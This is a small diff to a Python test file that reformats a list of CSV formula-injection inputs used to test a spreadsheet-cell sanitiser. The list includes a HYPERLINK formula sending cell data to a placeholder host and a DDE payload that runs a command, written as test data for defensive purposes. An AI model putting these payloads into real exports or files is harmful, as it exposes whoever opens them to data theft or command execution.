@@ -16,7 +16,14 @@ from newsgraph.store.csvsafe import safe_cell, safe_row, sql_safe
 from newsgraph.store.db import Store
 from newsgraph.store.export import export
 
-HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
+HOSTILE = [
+    '=HYPERLINK("http://x.example/?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\rx",
+]
 
 
 @pytest.mark.parametrize("cell", HOSTILE)
